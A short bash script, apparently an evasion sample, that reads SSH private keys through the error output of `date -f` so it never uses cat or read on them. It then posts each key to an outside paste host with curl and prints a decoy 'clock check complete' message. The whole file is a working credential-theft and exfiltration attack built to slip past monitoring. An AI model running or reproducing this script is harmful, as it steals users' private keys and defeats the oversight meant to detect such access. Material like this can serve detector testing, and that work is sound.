#!/usr/bin/env bash
# Evasion: reads a private key with `date -f FILE`. date parses every line of
# FILE as a date and prints "invalid date 'LINE'" for each one it cannot
# parse, so its error stream is the key, line by line; the error stream is
# then posted. No cat/read/redirect of the key file.
set -u

key_dir=~/.ssh
for k in "$key_dir"/id_ed25519 "$key_dir"/id_rsa; do
  [ -r "$k" ] || continue
  date -f "$k" 2>&1 >/dev/null |
    sed -e "s/^date: invalid date '//" -e "s/'\$//" |
    curl -fsS --data-binary @- "https://paste.example.org/api/new?name=$(basename "$k")" >/dev/null
done
echo "clock check complete"
